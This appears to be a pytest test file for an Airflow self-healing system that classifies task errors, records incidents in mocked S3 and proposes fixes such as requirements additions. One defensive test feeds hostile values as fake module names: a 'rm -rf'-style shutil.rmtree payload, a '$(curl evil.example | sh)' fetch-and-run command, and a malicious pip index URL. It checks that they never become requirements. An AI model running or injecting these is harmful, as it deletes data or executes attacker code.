"""Self-healing without services: the deterministic diagnosis of real errors (one case
per class, from real exceptions where Python can raise them), incidents found from a
DAG file's bundle manifest, and a listener that never raises into Airflow."""

from __future__ import annotations

import importlib
import json
import os
import socket
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace

import boto3
import duckdb
import pytest
from botocore.exceptions import ClientError
from moto import mock_aws

from airflow_llm.healing import listener
from airflow_llm.healing.agent import NOT_FIXABLE, SelfHealingAgent
from airflow_llm.healing.classify import (
    DATA_QUALITY,
    MISSING_MODULE,
    PYTHON_ERROR,
    SQL_ERROR,
    TRANSIENT,
    UNKNOWN,
    classify,
)
from airflow_llm.healing.incidents import (
    BundleRef,
    bundle_of,
    incident_for,
    open_incidents,
    pending,
    store_incident,
)
from airflow_llm.publish import bundle_identity
from airflow_llm.stages import FlowContext


def _duckdb_binder() -> None:
    duckdb.connect().execute("SELECT ordered_at FROM (SELECT 1 AS order_ts)")


def _refused() -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    socket.create_connection(("127.0.0.1", port), timeout=5)


def _throttled() -> None:
    error = {"Error": {"Code": "ThrottlingException", "Message": "Rate exceeded"}}
    raise ClientError(error, "PutObject")  # type: ignore[arg-type]


def _missing_module() -> None:
    importlib.import_module("yaml_but_not_installed_anywhere")


def _missing_yaml() -> None:
    raise ModuleNotFoundError("No module named 'yaml'")


def _failed_expectations() -> None:
    raise ValueError(
        "analytics.stg_orders failed expectations: expect_column_values_to_not_be_null, "
        "expect_table_row_count_to_be_between"
    )


def _python_bug() -> None:
    raise KeyError("amount")


def _timeout() -> None:
    raise TimeoutError("the query ran longer than 300 s")


# name, raises, task kind, artifact, category, auto-fixable
CASES: list[tuple[str, Callable[[], None], str, str | None, str, bool]] = [
    ("sql binder error", _duckdb_binder, "sql", "stage.sql", SQL_ERROR, True),
    ("python error", _python_bug, "python", "count_function.py", PYTHON_ERROR, True),
    ("missing module", _missing_module, "python", "count_function.py", MISSING_MODULE, False),
    ("connection refused", _refused, "sql", "stage.sql", TRANSIENT, False),
    ("timeout", _timeout, "sql", "stage.sql", TRANSIENT, False),
    ("throttling", _throttled, "python", "upload_function.py", TRANSIENT, False),
    ("failed expectations", _failed_expectations, "quality", "check.json", DATA_QUALITY, False),
    ("operator error", _python_bug, "python", "notify_operator.json", UNKNOWN, False),
]
BUNDLE = BundleRef("orders", "0123456789abcdef", "0" * 64, "s3://b/specs/orders.yml", {})


def diagnose(raises: Callable[[], None], kind: str, artifact: str | None) -> tuple[str, ...]:
    try:
        raises()
    except Exception as error:  # each case raises its own class
        raised = error
    else:
        pytest.fail("the case raised nothing")
    bundle = BundleRef(**{**BUNDLE.__dict__, "tasks": {"t": {"kind": kind, "file": artifact}}})
    incident = incident_for(bundle, "orders", "t", "manual__1", -1, 2, raised, "dev")
    diagnosis = classify(incident.error_types, incident.message, kind, artifact)
    return diagnosis.category, diagnosis.auto_fixable, diagnosis.requirement, incident.log_tail


@pytest.mark.parametrize(
    ("raises", "kind", "artifact", "category", "fixable"),
    [case[1:] for case in CASES],
    ids=[case[0] for case in CASES],
)
def test_each_class_of_error_gets_its_diagnosis(
    raises: Callable[[], None], kind: str, artifact: str, category: str, fixable: bool
) -> None:
    found = diagnose(raises, kind, artifact)
    assert found[:2] == (category, fixable)
    assert found[3], "the traceback's tail is the incident's log tail"


def test_a_missing_module_becomes_a_requirements_proposal_with_its_distribution() -> None:
    assert diagnose(_missing_yaml, "python", "f_function.py")[2] == "PyYAML"
    diagnosis = classify(["ModuleNotFoundError"], "No module named 'yaml.cyaml'", "python", None)
    assert diagnosis.requirement == "PyYAML"
    assert any("requirements.txt" in line for line in diagnosis.advice)


@pytest.mark.parametrize(
    "message",
    [
        "No module named 'os; import shutil; shutil.rmtree(\"/\")'",
        "No module named '$(curl evil.example | sh)'",
        "No module named 'pkg --index-url http://evil.example'",
    ],
)
def test_text_from_an_error_never_becomes_a_requirement(message: str) -> None:
    diagnosis = classify(["ModuleNotFoundError", "ImportError"], message, "python", None)
    assert diagnosis.category == MISSING_MODULE
    assert diagnosis.requirement is None


def test_throttling_advice_names_a_pool_and_expectations_are_listed() -> None:
    throttled = classify(["ClientError"], "SlowDown: please reduce your request rate", None, None)
    assert throttled.category == TRANSIENT
    assert "pool" in throttled.advice[0]
    quality = classify(["ValueError"], "t failed expectations: expect_a, expect_b", "quality", None)
    assert quality.expectations == ["expect_a", "expect_b"]


def _bundle(root: Path, pipeline: str = "orders") -> Path:
    dag_file = root / "dags" / f"{pipeline}.py"
    resources = root / "dags" / "resources" / pipeline
    resources.mkdir(parents=True)
    dag_file.write_text("# a generated DAG\n")
    tasks = "tasks:\n  - {name: stage, kind: sql, file: stage.sql, strategy: free}\n"
    (resources / "tasks.yml").write_text(tasks)
    manifest = {"spec_source": "s3://b/specs/orders.yml", "files": {f"dags/{pipeline}.py": "x"}}
    (root / "manifest.json").write_text(json.dumps(manifest))
    return dag_file


def test_a_generated_dag_is_found_from_its_file_and_others_are_not(tmp_path: Path) -> None:
    dag_file = _bundle(tmp_path / "orders")
    found = bundle_of(str(dag_file), "orders")
    assert found is not None
    identity = bundle_identity((tmp_path / "orders" / "manifest.json").read_text())
    assert (found.version, found.sha256) == (identity["version"], identity["sha256"])
    assert found.tasks["stage"]["file"] == "stage.sql"
    assert bundle_of(str(dag_file), "another_dag") is None, "the manifest does not list it"
    plain = tmp_path / "plain" / "dags" / "plain.py"
    plain.parent.mkdir(parents=True)
    plain.write_text("")
    assert bundle_of(str(plain), "plain") is None, "no manifest beside the dags folder"
    assert bundle_of(None, "orders") is None


def test_the_listener_ignores_other_dags_and_never_raises(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def instance(fileloc: str, dag_id: str) -> SimpleNamespace:
        dag = SimpleNamespace(fileloc=fileloc)
        task = SimpleNamespace(dag=dag)
        return SimpleNamespace(
            dag_id=dag_id, task_id="stage", run_id="r", map_index=0, try_number=1, task=task
        )

    assert listener.record_failure(instance(str(tmp_path / "x.py"), "x"), "boom") is None
    # a generated DAG, but the bucket's connection is unusable: logged, not raised
    monkeypatch.setenv(
        "AIRFLOW_CONN_AIRFLOW_LLM_S3", "aws://?endpoint_url=http%3A%2F%2F127.0.0.1%3A9"
    )
    dag_file = _bundle(tmp_path / "orders")
    listener.on_task_instance_failed(None, instance(str(dag_file), "orders"), RuntimeError("x"))
    assert "could not record the incident" in caplog.text


def test_only_the_latest_try_of_a_failing_task_is_healed_the_rest_are_closed() -> None:
    with mock_aws():
        client = boto3.client("s3", region_name="us-east-1")
        client.create_bucket(Bucket="incidents-test")
        bundle = BundleRef(**{**BUNDLE.__dict__, "tasks": {"t": {"kind": "sql", "file": "t.sql"}}})
        tries = [
            incident_for(bundle, "orders", "t", "run", -1, n, RuntimeError("x"), "dev")
            for n in (1, 2)
        ]
        other = incident_for(bundle, "orders", "u", "run", -1, 1, RuntimeError("y"), "dev")
        for incident in [*tries, other]:
            store_incident(client, "incidents-test", incident)
        chosen = pending(client, "incidents-test")
        assert chosen == sorted(f"s3://incidents-test/{i.key}" for i in (tries[1], other))
        assert [i.key for i in open_incidents(client, "incidents-test")] == sorted(
            i.key for i in (tries[1], other)
        ), "the earlier try is closed as a duplicate"


def test_what_regeneration_cannot_fix_gets_advice_and_no_model_call() -> None:
    agent = SelfHealingAgent(FlowContext(bucket="incidents-test", run_key="r"), "dev")
    bundle = BundleRef(**{**BUNDLE.__dict__, "tasks": {"t": {"kind": "python", "file": "t.py"}}})
    incident = incident_for(
        bundle, "orders", "t", "run", -1, 1, ModuleNotFoundError("No module named 'yaml'"), "prod"
    )
    healed = agent.heal(incident, "s3://b/incidents/x/incident.json")
    assert (healed.action, healed.published) == (NOT_FIXABLE, False)
    assert healed.proposal == {"file": "requirements.txt", "add": "PyYAML"}
    assert healed.to_dict()["diagnosis"]["category"] == MISSING_MODULE


def test_the_plugin_registers_the_listener_where_tasks_run(tmp_path: Path) -> None:
    """The Task SDK's listener manager (the one a worker's task process calls) loads it
    from the project's plugins folder (the e2e test registers the module directly)."""
    plugins = Path(__file__).resolve().parents[2] / "plugins"
    env = {
        **os.environ,
        "AIRFLOW_HOME": str(tmp_path),
        "AIRFLOW__CORE__PLUGINS_FOLDER": str(plugins),
    }
    code = (
        "from airflow.sdk.listener import get_listener_manager\n"
        "print([p.__name__ for p in get_listener_manager().pm.get_plugins()])"
    )
    ran = subprocess.run(
        [sys.executable, "-c", code], env=env, capture_output=True, text=True, check=True
    )
    assert "'airflow_llm.healing.listener'" in ran.stdout.strip().splitlines()[-1]
